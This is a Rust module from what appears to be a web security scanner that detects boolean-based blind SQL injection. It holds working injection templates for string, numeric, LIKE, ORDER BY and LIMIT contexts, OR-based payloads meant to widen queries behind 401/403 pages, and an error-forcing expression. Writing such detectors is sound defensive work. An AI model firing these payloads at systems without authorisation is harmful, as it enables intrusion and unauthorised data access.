//! SQL injection by truth: a true condition leaves the page as it is, a false one changes it.
//!
//! What is demanded before that is concluded stands in [`super::truth`]. First one text that breaks every
//! statement that it becomes a part of, wherever: where the page stays what it is, no condition could
//! change it either.
//!
//! Costs at a clean point: 4 requests for each value that was seen there, of which three are tried; where
//! the page takes offence at the first text, one more for each context.

use super::statement::sql_by_design;
use super::truth::Ask;
use super::truth::KnownPage;
use super::truth::PageIs;
use super::truth::Trial;
use super::truth::judged;
use super::truth::known_page;
use super::truth::numbered;
use super::truth::takes_offence;
use crate::scan::probe::Checking;
use crate::scan::probe::InsertionPoint;
use crate::scan::probe::Outcome;
use crate::scan::probe::PointCheck;
use crate::scan::probe::Probe;
use crate::scan::probe::ProbeStop;
use crate::scan::probe::Proof;

/// See the module.
pub(crate) struct SqliBoolean;

/// The value `«v»` and the condition `«c»` in a number, a string, a `LIKE` pattern, with and without brackets.
/// `#` is a random word.
const CONTEXTS: [&str; 12] = [
    "«v» AND «c»",
    "«v»' AND «c» AND '#'='#",
    "«v»%' AND «c» AND '%'='",
    "«v»\" AND «c» AND \"#\"=\"#",
    "«v») AND («c»",
    "«v»') AND «c» AND ('#'='#",
    "«v»%') AND «c» AND ('%'='",
    "«v»' AND «c»-- ",
    "«v»%' AND «c»-- ",
    "«v»%\" AND «c» AND \"%\"=\"",
    "«v»\") AND «c» AND (\"#\"=\"#",
    "«v»'||(CASE WHEN «c» THEN '' ELSE '#' END)||'",
];

/// The same where the page is a refusal: what finds more lets in.
const WIDER: [&str; 5] = [
    "«v»' OR «c»-- ",
    "«v»' OR «c» OR '#'='",
    "«v»\" OR «c»-- ",
    "«v»') OR («c»)-- ",
    "«v» OR «c»",
];

/// A number that is no part of a condition: a `LIMIT`, an argument.
const NUMBER: &str = "(CASE WHEN «c» THEN «v» ELSE «f» END)";

/// What rows are sorted by, or the direction after it.
const SORTED: [&str; 2] =
    ["(CASE WHEN «c» THEN 1 ELSE «f» END),«v»", "«v»,(CASE WHEN «c» THEN 1 ELSE «f» END)"];

/// Stands for `«f»`: fails when it is evaluated, be it by the range of integers (`SQLite`, `MySQL`) or by the
/// division (`PostgreSQL`, SQL Server, Oracle).
const FAILS: &str = "abs(-9223372036854775808)/0";

/// Conditions of which each pair differs in one number only.
const CONDITIONS: [(&str, &str); 4] = [
    ("{a}={a}", "{a}={b}"),
    ("{a} IN ({b},{a})", "{a} IN ({b},{c})"),
    ("NOT {a}={b}", "NOT {a}={a}"),
    ("{a} BETWEEN {a} AND {a}", "{a} BETWEEN {b} AND {b}"),
];

/// Fetches of the unchanged request that tell what the page is.
const BASELINES: usize = 3;

/// Times a page that changes during the check is learnt anew.
const ATTEMPTS: usize = 2;

/// Values seen at the point that are tried: one that finds nothing can prove nothing.
const MAX_VALUES: usize = 3;

impl PointCheck for SqliBoolean {
    fn id(&self) -> &'static str {
        "sqli-boolean"
    }

    fn root_cause(&self) -> &'static str {
        "sql-injection"
    }

    fn applies(&self, _point: &InsertionPoint) -> bool {
        true
    }

    fn run<'a>(&'a self, probe: &'a mut Probe) -> Checking<'a> {
        Box::pin(check(probe))
    }
}

async fn check(probe: &mut Probe) -> Result<Outcome, ProbeStop> {
    if let Some(reason) = sql_by_design(&probe.point().value) {
        return Ok(Outcome::Skipped(reason));
    }
    let (mut reason, mut compared) = (None, false);
    for value in values_to_try(probe) {
        match check_value(probe, &value).await? {
            Outcome::Found(proof) => return Ok(Outcome::Found(proof)),
            Outcome::Clean => compared = true,
            Outcome::Skipped(why) => reason = reason.or(Some(why)),
        }
    }
    Ok(match reason {
        Some(reason) if !compared => Outcome::Skipped(reason),
        _ => Outcome::Clean,
    })
}

/// Every context at one value. A page that somebody else changes meanwhile (a review, a counter)
/// tells nothing about the conditions: then once more from the start.
async fn check_value(probe: &mut Probe, value: &str) -> Result<Outcome, ProbeStop> {
    for _ in 0..ATTEMPTS {
        let page = match known_page(probe, value, BASELINES).await? {
            Ok(page) => page,
            Err(reason) => return Ok(Outcome::Skipped(reason)),
        };
        if matches!(page.first.response().status, 401 | 403) {
            return refused(probe, &page).await;
        }
        if let Some(reason) = page.is_error() {
            return Ok(Outcome::Skipped(reason));
        }
        if !takes_offence(probe, &page).await? {
            return Ok(Outcome::Clean);
        }
        for context in contexts(value) {
            if let Some(proof) = try_context(probe, &page, (context, PageIs::True)).await? {
                return Ok(Outcome::Found(Box::new(proof)));
            }
        }
        let unchanged = probe.fire(value).await?;
        if page.shows(&unchanged) {
            return Ok(Outcome::Clean);
        }
    }
    Ok(Outcome::Skipped("the page kept changing while it was checked".to_owned()))
}

/// Every context that asks for more, where the value finds nothing.
async fn refused(probe: &mut Probe, page: &KnownPage) -> Result<Outcome, ProbeStop> {
    for context in WIDER {
        if let Some(proof) = try_context(probe, page, (context, PageIs::False)).await? {
            return Ok(Outcome::Found(Box::new(proof)));
        }
    }
    Ok(Outcome::Clean)
}

/// Seen values, and for a text a frequent letter: searches find something by it.
fn values_to_try(probe: &Probe) -> Vec<String> {
    let mut values = probe.seen_values();
    let is_text = values.iter().all(|value| value.parse::<f64>().is_err());
    if is_text && !values.iter().any(|value| value == "a") {
        values.truncate(MAX_VALUES - 1);
        values.push("a".to_owned());
    }
    values.truncate(MAX_VALUES);
    values
}

/// Contexts in which a value may stand.
fn contexts(value: &str) -> impl Iterator<Item = &'static str> {
    let is_number = value.parse::<f64>().is_ok();
    let is_word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ' ');
    let is_sorted = !value.is_empty() && value.chars().all(is_word);
    let number = is_number.then_some(NUMBER);
    let sorted = if is_sorted { SORTED.as_slice() } else { &[] };
    CONTEXTS.into_iter().chain(number).chain(sorted.iter().copied())
}

async fn try_context(
    probe: &mut Probe,
    page: &KnownPage,
    (context, page_is): (&str, PageIs),
) -> Result<Option<Proof>, ProbeStop> {
    let word = probe.word();
    let template = context.replace('#', &word).replace("«v»", &page.value).replace("«f»", FAILS);
    let payload = |condition: &str| Ask::Value(template.replace("«c»", condition));
    let pairs = |probe: &mut Probe, round: usize| {
        let (yes, no) = numbered(probe, CONDITIONS[round]);
        (payload(&yes), payload(&no))
    };
    let broken = |probe: &mut Probe| {
        let (yes, _) = numbered(probe, CONDITIONS[0]);
        payload(&format!("{yes} AND"))
    };
    let trial =
        Trial { pairs: &pairs, rounds: CONDITIONS.len(), broken: Some(&broken), page: page_is };
    judged(probe, page, &trial).await
}
